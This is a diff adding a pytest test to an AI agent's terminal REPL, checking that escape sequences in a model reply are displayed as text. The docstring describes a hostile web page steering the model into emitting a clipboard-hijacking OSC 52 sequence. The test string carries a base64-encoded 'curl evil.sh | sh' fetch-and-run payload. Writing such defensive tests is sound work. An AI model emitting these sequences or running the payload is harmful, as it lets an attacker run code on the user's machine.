@@ -179,6 +179,22 @@ def test_reply_outside_the_output_encoding_is_shown_with_replacements(tmp_path: 
     assert [m.content for m in agent.history] == ["hello", "café 你好… done"]
 
 
+@pytest.mark.parametrize("stream", [True, False])
+def test_escape_sequences_in_a_reply_are_shown_not_sent_to_the_terminal(tmp_path: Path, stream: bool):
+    """A model's reply may carry what a hostile page told it to write: an OSC 52 sequence sets the
+    clipboard, ESC[2J clears the screen. The REPL shows them as text; the history keeps the reply."""
+    settings = load_settings({"home": str(tmp_path), "skill_utils": {"enabled": False},
+                              "context_engine": {"enabled": False}})
+    evil = "ok\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 and\x1b[2J\tdone\nnext line"
+    agent = Agent(settings, provider=FakeProvider([evil]))
+    out = io.StringIO()
+    Repl(agent, stdin=io.StringIO("hello\n/exit\n"), stdout=out, stream=stream).run()
+    shown = out.getvalue()
+    assert "\x1b" not in shown and "\x07" not in shown
+    assert "ok\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 and\\x1b[2J\tdone\nnext line" in shown
+    assert agent.history[-1].content == evil
+
+
 def test_commands_print_chinese_to_an_ascii_stdout_without_a_traceback(copy_example_home, tmp_path: Path):
     import os
     import subprocess
